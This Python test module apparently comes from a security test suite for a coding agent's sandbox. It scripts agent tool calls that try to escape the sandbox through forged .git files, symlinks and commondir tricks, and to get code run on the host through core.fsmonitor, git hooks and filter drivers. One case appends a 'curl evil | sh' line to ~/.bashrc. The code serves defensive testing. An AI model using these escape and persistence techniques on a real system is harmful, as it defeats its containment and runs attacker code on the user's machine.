"""Classes 1 and 2: opening the sandbox from inside, and getting repository-controlled code run
on the host (by memagent's own git, or by the user's next ``git status``/``git commit``)."""

from __future__ import annotations

import subprocess

from fakeapi import tool

from .harness import Attack, World, git, lost, payload


def _bash(command: str) -> dict:
    return tool("bash", {"command": command})


# --- class 1: the sandbox can be opened from inside ------------------------------------------


def gitdir_home(w: World) -> list[str]:
    """The issue's case: the project is a linked worktree (``.git`` is a file); a command
    rewrites it to ``gitdir: ~`` and the next command appends to ``~/.bashrc``."""
    wt = w.root / "wt"
    git("worktree", "add", "-q", str(wt), cwd=w.other)
    w._before = w._snapshots()
    link = (wt / ".git").read_text()
    w.session(
        _bash(f"printf 'gitdir: {w.home}' > .git; echo planted"),
        _bash(f"echo 'curl evil | sh' >> {w.home}/.bashrc"),
        cwd=wt,
    )
    return [] if (wt / ".git").read_text() == link else ["the worktree's .git file was rewritten"]


def gitdir_root_then_host_tmp(w: World) -> list[str]:
    """A project that is not a git repository: a command plants ``.git`` naming ``/``, then
    ``/tmp``, and the next one writes to the host's ``/tmp``."""
    subprocess.run(["rm", "-rf", str(w.project / ".git")], check=True)
    marker = f"/tmp/memagent-escape-{w.root.name}"
    w.session(_bash("printf 'gitdir: /' > .git; printf 'gitdir: /tmp' > .git"), _bash(f"echo escaped > {marker}"))
    found = [] if not (w.project / ".git").exists() else ["a .git file was planted"]
    try:
        with open(marker):
            return [*found, lost(f"a sandboxed command wrote the host's {marker}")]
    except FileNotFoundError:
        return found


def gitdir_dotdot(w: World) -> list[str]:
    """A shipped ``.git`` file naming ``..``: the folder holding the project (and the victim)."""
    subprocess.run(["rm", "-rf", str(w.project / ".git")], check=True)
    w.write(".git", "gitdir: ../victim\n")
    w.session(_bash("echo pwned > ../victim/notes.txt; echo pwned > ../victim/new.txt"))
    return []


def git_symlink_out(w: World) -> list[str]:
    """``.git`` is a symlink to a folder outside the project."""
    subprocess.run(["rm", "-rf", str(w.project / ".git")], check=True)
    (w.project / ".git").symlink_to(w.victim)
    w.session(_bash("echo pwned > .git/notes.txt; echo pwned > .git/config"))
    return []


def crafted_worktree_commondir(w: World) -> list[str]:
    """A shipped worktree-shaped git folder that names the project back (so it passes as a linked
    worktree) and whose ``commondir`` points at the victim folder."""
    subprocess.run(["rm", "-rf", str(w.project / ".git")], check=True)
    fake = w.project / "vendor" / "wt"
    for rel, body in {
        "HEAD": "ref: refs/heads/main\n",
        "gitdir": f"{w.project}/.git\n",
        "commondir": f"{w.victim}\n",
    }.items():
        w.write(rel, body, base=fake)
    (fake / "objects").mkdir()
    (fake / "refs").mkdir()
    (w.victim / "objects").mkdir()
    (w.victim / "refs").mkdir()
    (w.victim / "HEAD").write_text("ref: refs/heads/main\n")
    w._before = w._snapshots()
    w.write(".git", f"gitdir: {fake}\n")
    w.session(_bash(f"echo pwned > {w.victim}/notes.txt; echo '[core]' > {w.victim}/config"))
    return []


def real_worktree_writes_main_repo(w: World) -> list[str]:
    """The project is a linked worktree of the other repository: a command in it may not write
    the main repository's hooks or configuration (they run when the user works there)."""
    git("worktree", "add", "-q", str(w.root / "wt"), cwd=w.other)
    w._before = w._snapshots()
    wt = w.root / "wt"
    hook = w.other / ".git" / "hooks" / "post-checkout"
    w.session(
        _bash(f"printf '#!/bin/sh\\necho hi >> {w.ran}\\n' > {hook}; chmod +x {hook}"),
        _bash("git config core.fsmonitor 'echo x' ; git config --worktree core.pager evil"),
        cwd=wt,
    )
    config = (w.other / ".git" / "config").read_text()
    return [lost("the main repository's hook or config was written")] if hook.exists() or "fsmonitor" in config else []


def git_dir_renamed_away(w: World) -> list[str]:
    w.session(
        _bash(f"mv .git .g && printf 'gitdir: {w.home}' > .git; echo x"), _bash(f"echo pwned >> {w.home}/.bashrc")
    )
    return []


# --- class 2: repository-controlled code on the host ------------------------------------------


def _card(w: World) -> str:
    import json

    added = w.cli("memory", "add", "The CI runs on GitHub Actions", "--type", "fact", "--json", "-C", str(w.project))
    assert added.returncode == 0, added.stderr
    w.commit("card")
    return json.loads(added.stdout)["card"]["id"]


def _users_next_git(w: World) -> None:
    w.write("src/app.py", "print('changed')\n")
    w.users_git("status")
    w.users_git("add", "-A")
    w.users_git("commit", "-q", "-m", "next")


def fsmonitor_from_sandbox(w: World) -> list[str]:
    card = _card(w)
    w.write("x.sh", payload(w, "fsmonitor")).chmod(0o755)
    w.commit("x")
    w.session(_bash("git config core.fsmonitor ./x.sh"), tool("memory_delete", {"memory_id": card}), flags=("--yes",))
    _users_next_git(w)
    return []


def edit_git_config_accept_edits(w: World) -> list[str]:
    """No shell at all: ``edit_file`` of ``.git/config`` in acceptEdits, then ``memory_delete``."""
    card = _card(w)
    w.write("x.sh", payload(w, "edit-config")).chmod(0o755)
    w.commit("x")
    w.session(
        tool(
            "edit_file", {"path": ".git/config", "old_string": "[core]", "new_string": "[core]\n\tfsmonitor = ./x.sh"}
        ),
        tool("memory_delete", {"memory_id": card}),
        flags=("--permission-mode", "acceptEdits"),
    )
    _users_next_git(w)
    return ["edit_file wrote .git/config in acceptEdits"] if "x.sh" in (w.project / ".git/config").read_text() else []


def pre_commit_hook_written(w: World) -> list[str]:
    w.session(
        _bash(
            f"printf '#!/bin/sh\\nsh ./x.sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
            f" printf '{payload(w, 'pre-commit')}' > x.sh"
        )
    )
    _users_next_git(w)
    return []


def commondir_in_plain_git_folder(w: World) -> list[str]:
    """git reads ``.git/commondir`` in any git folder: point it at a folder the command wrote,
    whose ``config`` sets ``core.fsmonitor`` and whose ``hooks/`` has a pre-commit."""
    script = payload(w, "commondir").replace("\n", "\\n").replace('"', '\\"').replace("$", "\\$")
    w.session(
        _bash(
            f'cp -r .git evil && printf "{script}" > evil/x.sh && chmod +x evil/x.sh'
            f' && printf "[core]\\n\\tfsmonitor = $PWD/evil/x.sh\\n\\thooksPath = $PWD/evil/h\\n" >> evil/config'
            f" && mkdir -p evil/h && cp evil/x.sh evil/h/pre-commit && echo ../evil > .git/commondir; echo done"
        )
    )
    _users_next_git(w)
    return []


def worktree_config_file(w: World) -> list[str]:
    """``.git/config.worktree`` and ``.git/info``-like side files git reads as configuration."""
    script = payload(w, "config.worktree").replace("\n", "\\n").replace('"', '\\"').replace("$", "\\$")
    w.session(
        _bash(
            f'printf "{script}" > x.sh; chmod +x x.sh;'
            ' printf "[core]\\n\\tfsmonitor = ./x.sh\\n" > .git/config.worktree;'
            ' printf "[core]\\n\\tfsmonitor = ./x.sh\\n" > .git/info/config 2>/dev/null; echo ok'
        )
    )
    git("config", "extensions.worktreeConfig", "true", cwd=w.project)  # the user's own, for sparse checkout
    _users_next_git(w)
    return []


def gitattributes_filter_with_shipped_driver(w: World) -> list[str]:
    """A shipped ``.gitattributes`` with a filter the user's global config defines (git-lfs style)
    is harmless; one the repository defines in ``.git/config`` through ``include.path`` of a file
    the command wrote must not run on memagent's own git."""
    card = _card(w)
    w.write("evil.cfg", f'[filter "x"]\n\tclean = {w.root}/evil.sh\n[diff "x"]\n\ttextconv = {w.root}/evil.sh\n')
    (w.root / "evil.sh").write_text(payload(w, "filter"))
    (w.root / "evil.sh").chmod(0o755)
    w._before = w._snapshots()
    w.write(".gitattributes", "* filter=x diff=x\n")
    w.commit("attrs")
    w.session(_bash("git config include.path ../evil.cfg; echo ok"), tool("memory_delete", {"memory_id": card}))
    (w.root / "evil.sh").unlink()
    w._before = w._snapshots()
    return []


def _nested_repo(w: World, register: bool) -> str:
    script = payload(w, "nested").replace("\n", "\\n").replace('"', '\\"').replace("$", "\\$")
    command = (
        f'printf "{script}" > x.sh && chmod +x x.sh && git init -q vendor/lib'
        " && git -C vendor/lib -c user.name=a -c user.email=a@b commit -q --allow-empty -m v"
        ' && git -C vendor/lib config core.fsmonitor "$PWD/x.sh"'
    )
    if register:  # the index is the command's to write: a gitlink needs no .gitmodules
        command += " && git update-index --add --cacheinfo 160000,$(git -C vendor/lib rev-parse HEAD),vendor/lib"
    return command + "; echo done"


def nested_repo_gitlink(w: World) -> list[str]:
    """A command makes a nested repository in the working tree (its ``.git/config`` is not the
    project's, so it is writable) with ``core.fsmonitor``, and registers it in the index as a
    gitlink: the user's next ``git status`` runs ``git status`` inside it, on the host."""
    w.session(_bash(_nested_repo(w, register=True)))
    _users_next_git(w)
    return []


def nested_repo_added_by_user(w: World) -> list[str]:
    """The same nested repository, not registered: the user's own ``git add -A`` does that."""
    w.session(_bash(_nested_repo(w, register=False)))
    _users_next_git(w)
    _users_next_git(w)
    return []


def hooks_path_to_project_folder(w: World) -> list[str]:
    """The repository ships ``core.hooksPath = .githooks`` (the user ran the project's setup) and
    a command rewrites the hook in it."""
    git("config", "core.hooksPath", ".githooks", cwd=w.project)
    w.write(".githooks/pre-commit", "#!/bin/sh\nexit 0\n").chmod(0o755)
    w.commit("hooks")
    w.session(_bash(f"printf '{payload(w, 'githooks')}' > .githooks/pre-commit; echo ok"))
    _users_next_git(w)
    return []


ATTACKS = (
    Attack("1/gitdir-home", 1, "a .git file naming $HOME, then a write to ~/.bashrc", gitdir_home, named=True),
    Attack(
        "1/gitdir-root-tmp",
        1,
        "a .git file naming / then /tmp, then a write to the host /tmp",
        gitdir_root_then_host_tmp,
        named=True,
    ),
    Attack("1/gitdir-dotdot", 1, "a shipped .git file naming ../victim", gitdir_dotdot),
    Attack("1/git-symlink", 1, "a shipped .git symlink to a folder outside", git_symlink_out),
    Attack(
        "1/crafted-commondir",
        1,
        "a crafted worktree folder whose commondir names the victim",
        crafted_worktree_commondir,
    ),
    Attack(
        "1/worktree-main-repo",
        1,
        "a linked worktree writing the main repository's hooks and config",
        real_worktree_writes_main_repo,
    ),
    Attack("1/git-renamed", 1, "rename .git away, plant a .git file naming $HOME", git_dir_renamed_away),
    Attack(
        "2/fsmonitor-sandbox",
        2,
        "core.fsmonitor set from the sandbox, then memory_delete and the user's git",
        fsmonitor_from_sandbox,
        named=True,
    ),
    Attack(
        "2/edit-git-config",
        2,
        "edit_file of .git/config in acceptEdits, then memory_delete",
        edit_git_config_accept_edits,
        named=True,
    ),
    Attack(
        "2/pre-commit",
        2,
        "a .git/hooks/pre-commit written for the user's next commit",
        pre_commit_hook_written,
        named=True,
    ),
    Attack("2/commondir", 2, ".git/commondir pointed at a config the command wrote", commondir_in_plain_git_folder),
    Attack("2/config-worktree", 2, ".git/config.worktree and .git/info/config with fsmonitor", worktree_config_file),
    Attack(
        "2/include-filter",
        2,
        "include.path to a written file defining filter and textconv drivers",
        gitattributes_filter_with_shipped_driver,
    ),
    Attack(
        "2/nested-repo-gitlink",
        2,
        "a nested repository with core.fsmonitor, registered as a gitlink",
        nested_repo_gitlink,
    ),
    Attack(
        "2/nested-repo-add",
        2,
        "a nested repository with core.fsmonitor, added by the user's git add -A",
        nested_repo_added_by_user,
    ),
    Attack(
        "2/hookspath-folder",
        2,
        "a hook rewritten in the core.hooksPath folder of the working tree",
        hooks_path_to_project_folder,
    ),
)
